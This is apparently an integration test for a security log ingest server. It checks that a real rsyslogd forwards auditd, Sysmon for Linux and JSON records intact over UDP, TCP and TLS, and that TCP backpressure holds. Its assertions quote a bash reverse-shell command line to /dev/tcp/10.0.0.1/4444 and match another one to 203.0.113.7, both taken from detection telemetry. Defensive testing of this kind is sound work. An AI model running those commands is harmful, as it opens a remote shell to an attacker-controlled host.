// A real rsyslogd (Debian's rsyslog + rsyslog-gnutls) forwards files it tails (imfile) to startSyslog
// with omfwd: UDP, TCP with LF and with octet-counted framing, TLS (gtls, anon), in the
// RSYSLOG_SyslogProtocol23Format, RSYSLOG_TraditionalForwardFormat and RSYSLOG_ForwardFormat templates.
// Inputs: auditd lines (our fixture and LAUREL's perl reverse shell, by path), Sysmon for Linux XML, JSON.
// Skipped, saying so, only when rsyslogd is not installed.
import assert from 'node:assert/strict';
import { spawn, type ChildProcess } from 'node:child_process';
import { appendFileSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import type { RawRecord } from '../../../src/core/index.js';
import { startSyslog, type SyslogServer } from '../../../src/ingest/syslog/server.js';
import { corpusPath, hasCorpus, projectRoot } from '../../helpers/corpus.js';
import { makeCert, TestPort, until } from './helpers.js';

const RSYSLOGD = '/usr/sbin/rsyslogd';
const skip = existsSync(RSYSLOGD) ? false : `${RSYSLOGD} is not installed (apt-get install rsyslog rsyslog-gnutls): real-rsyslog tests skipped`;
const fixture = (p: string) => readFileSync(join(projectRoot, 'test/fixtures', p), 'utf8').split('\n').filter(Boolean);
const auditLines = fixture('syslog/reverse-shell.audit.log');
const perlPath = corpusPath('laurel-testdata/src/testdata/record-perl-reverse-shell.txt');
const perlLines = hasCorpus ? readFileSync(perlPath, 'utf8').split('\n').filter(Boolean) : [];
// Sysmon for Linux writes `sysmon: <Event>…` to syslog; imfile's Tag supplies the `sysmon:` part
const sysmonXml = fixture('xml/sysmon-linux.syslog').filter((l) => l.includes('<Event>')).map((l) => l.slice(l.indexOf('<Event>')));
const jsonLine = fixture('xml/sysmon-linux-wrapped.json')[0];
const BULK = 20_000;

interface Route { name: string; stream: string; action: string; port: TestPort; server?: SyslogServer }
const routes: Route[] = [
  { name: 'udp-p23', stream: 'syslog-udp', action: 'protocol="udp" template="RSYSLOG_SyslogProtocol23Format"', port: new TestPort({ commitMs: 2 }) },
  { name: 'tcp-lf-p23', stream: 'syslog-tcp', action: 'protocol="tcp" TCP_Framing="traditional" template="RSYSLOG_SyslogProtocol23Format"', port: new TestPort({ commitMs: 2 }) },
  { name: 'tcp-octet-p23-busy', stream: 'syslog-tcp', action: 'protocol="tcp" TCP_Framing="octet-counted" template="RSYSLOG_SyslogProtocol23Format"', port: new TestPort({ busy: 3, retryAfterS: 0.05 }) },
  { name: 'tls-octet-p23', stream: 'syslog-tls', action: 'protocol="tcp" TCP_Framing="octet-counted" StreamDriver="gtls" StreamDriverMode="1" StreamDriverAuthMode="anon" template="RSYSLOG_SyslogProtocol23Format"', port: new TestPort({ commitMs: 2 }) },
  { name: 'tcp-lf-traditional', stream: 'syslog-tcp', action: 'protocol="tcp" TCP_Framing="traditional" template="RSYSLOG_TraditionalForwardFormat"', port: new TestPort() },
  { name: 'udp-forward', stream: 'syslog-udp', action: 'protocol="udp" template="RSYSLOG_ForwardFormat"', port: new TestPort() },
];
const bulk: Route = { name: 'bulk', stream: 'syslog-tcp', action: 'protocol="tcp" TCP_Framing="octet-counted" template="RSYSLOG_SyslogProtocol23Format"', port: new TestPort() };

let dir = '';
let rsyslogd: ChildProcess | undefined;
let stderr = '';

function config(cert: string): string {
  const fwd = (r: Route, port: number) => `  action(type="omfwd" name="${r.name}" target="127.0.0.1" port="${port}" ${r.action} queue.type="LinkedList" action.resumeRetryCount="-1" action.resumeInterval="1")`;
  const target = (r: Route) => { const a = r.server!.addresses(); return (a.udp ?? a.tcp ?? a.tls)!.port; };
  return [
    `global(workDirectory="${dir}" localHostName="sensor01" maxMessageSize="64k" parser.escapeControlCharactersOnReceive="off" DefaultNetstreamDriverCAFile="${cert}")`,
    'module(load="imfile")',
    ...[['audit.log', 'audispd:'], ['sysmon.log', 'sysmon:'], ['json.log', 'fluent:']].map(([f, tag]) => `input(type="imfile" File="${dir}/${f}" Tag="${tag}" ruleset="fwd")`),
    `input(type="imfile" File="${dir}/bulk.log" Tag="bulk:" ruleset="bulk")`,
    'ruleset(name="fwd") {', ...routes.map((r) => fwd(r, target(r))), '}',
    'ruleset(name="bulk") {', fwd(bulk, target(bulk)), '}',
  ].join('\n');
}

before(async () => {
  if (skip) return;
  dir = mkdtempSync(join(tmpdir(), 'sw-rsyslog-'));
  const { cert, key, certPath } = makeCert(dir);
  const at = { host: '127.0.0.1', port: 0 };
  for (const r of [...routes, bulk]) {
    const kind = r.stream === 'syslog-udp' ? 'udp' : r.stream === 'syslog-tls' ? 'tls' : 'tcp';
    r.server = await startSyslog(r.port, kind === 'tls' ? { tls: { ...at, cert, key } } : { [kind]: at });
  }
  for (const f of ['audit.log', 'sysmon.log', 'json.log', 'bulk.log']) writeFileSync(join(dir, f), '');
  writeFileSync(join(dir, 'rsyslog.conf'), config(certPath));
  rsyslogd = spawn(RSYSLOGD, ['-n', '-f', join(dir, 'rsyslog.conf'), '-i', join(dir, 'rsyslogd.pid')], { stdio: ['ignore', 'ignore', 'pipe'] });
  rsyslogd.stderr!.on('data', (d: Buffer) => { stderr += d.toString(); });
  await until(() => existsSync(join(dir, 'rsyslogd.pid')) || rsyslogd!.exitCode !== null, 'rsyslogd to start');
  assert.equal(rsyslogd.exitCode, null, `rsyslogd exited: ${stderr}`);
});

after(async () => {
  if (rsyslogd && rsyslogd.exitCode === null) {
    const exited = new Promise((r) => rsyslogd!.once('exit', r));
    rsyslogd.kill('SIGTERM');
    const t = setTimeout(() => rsyslogd!.kill('SIGKILL'), 3000);
    await exited;
    clearTimeout(t);
  }
  for (const r of [...routes, bulk]) await r.server?.close();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

const byFormat = (recs: RawRecord[], f: string) => recs.filter((r) => r.format === f);
const wanted = () => 2 + (perlLines.length ? 1 : 0);

test('auditd, Sysmon for Linux XML and JSON lines arrive complete over every transport and template', { skip }, async () => {
  appendFileSync(join(dir, 'audit.log'), [...auditLines, ...perlLines].join('\n') + '\n');
  appendFileSync(join(dir, 'sysmon.log'), sysmonXml.join('\n') + '\n');
  appendFileSync(join(dir, 'json.log'), jsonLine + '\n');
  for (const r of routes) {
    const recs = () => r.port.records;
    await until(() => byFormat(recs(), 'auditd').length >= wanted() && byFormat(recs(), 'xml').length >= 2 && recs().some((x) => x.format.startsWith('json')), `${r.name}: all records (rsyslogd said: ${stderr || 'nothing'})`, 20_000);
  }
  for (const r of routes) {
    const recs = r.port.records;
    const ctx = `route ${r.name}`;
    assert.deepEqual(r.port.codes(), [], `${ctx}: no diagnostics`);
    const audit = byFormat(recs, 'auditd');
    const split = JSON.stringify(r.port.committed.map((c) => c.records.map((x) => x.ref.record)));
    assert.equal(audit.length, wanted(), `${ctx}: each multi-line event is one record, none twice; batches: ${split}`);
    const exec = audit.find((x) => x.ref.record === '1700000100.500:7001')!;
    assert.deepEqual(exec.data.argv, ['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'], ctx);
    assert.deepEqual(exec.data.type, ['SYSCALL', 'EXECVE', 'CWD', 'PATH', 'PROCTITLE'], ctx);
    assert.equal(exec.data.cwd, '/var/www/html', ctx);
    assert.equal(exec.system.computer, 'sensor01', `${ctx}: host from the syslog header`);
    assert.equal(audit.find((x) => x.ref.record === '1700000100.510:7002')!.data.saddr_port, 4444, ctx);
    if (perlLines.length) {
      const perl = audit.find((x) => x.ref.record === '1626611363.720:348501')!;
      assert.equal((perl.data.argv as string[])[0], 'perl', ctx);
      assert.equal(perl.data.UID, 'root', `${ctx}: enrichment after 0x1D survives the trip`);
    }
    const xml = byFormat(recs, 'xml');
    assert.deepEqual(xml.map((x) => [x.system.eventId, x.system.computer]), [[1, 'lnx01'], [3, 'lnx01']], ctx);
    assert.match(String(xml[0].data.CommandLine), /\/dev\/tcp\/203\.0\.113\.7\/4444/, ctx);
    assert.equal(recs.filter((x) => x.format.startsWith('json')).length, 1, ctx);
    for (const x of recs) {
      assert.equal(x.ref.stream, r.stream, ctx);
      assert.match(x.ref.sender ?? '', /^127\.0\.0\.1:\d+$/, ctx);
    }
    assert.ok(r.port.committed.every((c) => c.from.stream === r.stream && c.from.sender === recs[0].ref.sender), `${ctx}: deliveries name the stream and sender`);
  }
  assert.equal(routes[2].port.busyRefusals, 3, 'the BusyError route was refused three times and retried');
});

test('TCP backpressure with rsyslog: a blocked store stops the reads; then every line arrives exactly once', { skip }, async () => {
  bulk.port.block();
  const pad = 'x'.repeat(900);
  const lines = Array.from({ length: BULK }, (_, i) => JSON.stringify({ n: i, message: `line ${i} ${pad}` }));
  appendFileSync(join(dir, 'bulk.log'), lines.join('\n') + '\n');
  await until(() => bulk.port.inFlight === 1, 'the first batch waiting for the store', 20_000);
  let last = -1;
  await until(() => { const m = bulk.server!.stats().messages; const still = m === last; last = m; return still; }, 'reading to stop', 20_000);
  await new Promise((r) => setTimeout(r, 300));
  const read = bulk.server!.stats().messages;
  assert.ok(read < BULK / 4, `the receiver stopped reading while the store was blocked (${read} of ${BULK} read)`);
  bulk.port.open();
  await until(() => bulk.port.records.length >= BULK, `${BULK} records`, 60_000);
  const ns = bulk.port.records.map((r) => r.data.n as number);
  assert.equal(ns.length, BULK, 'nothing twice');
  assert.equal(new Set(ns).size, BULK, 'nothing lost');
});
